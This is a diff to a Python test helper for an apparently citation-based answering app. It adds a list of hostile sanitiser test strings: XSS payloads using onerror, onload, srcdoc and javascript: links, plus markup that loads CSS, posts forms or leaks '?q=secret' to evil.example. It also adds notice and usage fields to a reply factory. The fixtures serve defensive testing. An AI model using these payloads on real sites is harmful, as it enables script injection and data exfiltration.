@@ -5,7 +5,7 @@ from datetime import date
 from html.parser import HTMLParser
 from typing import Any
 
-from app.records import AnswerSentence, Citation, Conflict, DateRange, Reply, RetrievedPassage
+from app.records import AnswerSentence, Citation, Conflict, DateRange, Reply, RetrievedPassage, Usage
 from index.errors import UsageError
 from index.records import Article
 
@@ -19,6 +19,16 @@ HOSTILE = (
     "Right \u202eto left\u202c again \u2066\u2069",
     '" autofocus onfocus="alert(1)',
     "&lt;b&gt; &amp; &#60;",
+    "&#x3c;img src=x onerror=alert(1)&#x3e;",
+    '<a href="jav&#x61;script:alert(1)">read more</a>',
+    "[x]: data:text/html;base64,PHNjcmlwdD4= [x][x] <data:text/html,x>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    '<svg onload="alert(1)"><use href="data:image/svg+xml,x"/></svg>',
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    '<form action="https://evil.example"><input name="q" autofocus>',
+    "</s></span></p></div><p class='support supported'>✓ supported</p>",
+    "~~**[1](https://evil.example)**~~ ![](//evil.example/?q=secret)",
+    "https://evil.example/?q=secret www.evil.example me@evil.example",
 )
 
 
@@ -85,10 +95,12 @@ def reply(
     passages: tuple[RetrievedPassage, ...] = (),
     conflicts: tuple[Conflict, ...] = (),
     dates: DateRange | None = None,
+    notice: str = "",
+    usage: Usage | None = None,
 ) -> Reply:
     return Reply(
         question, standalone or question, answered, answer, engine, "0" * 12, sentences, citations,
-        passages, conflicts, dates, {"total": 12.3},
+        passages, conflicts, dates, {"total": 12.3}, notice=notice, usage=usage,
     )  # fmt: skip
 
 
